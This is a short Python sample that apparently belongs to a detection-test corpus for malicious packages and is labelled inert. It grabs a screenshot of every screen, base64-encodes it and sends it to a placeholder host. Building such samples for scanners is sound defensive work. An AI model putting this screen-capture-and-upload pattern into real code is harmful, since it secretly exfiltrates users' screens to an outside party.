# pkgguard corpus 309 (screenshot), modelled on [stealer-profile]; inert, never run.
import base64
import io
import json
import urllib.request

from PIL.ImageGrab import grab

shot = grab(all_screens=True)
buf = io.BytesIO()
shot.save(buf, format="PNG")
urllib.request.urlopen(
    "https://assets.example/s", data=json.dumps({"png": base64.b64encode(buf.getvalue()).decode()}).encode()
)
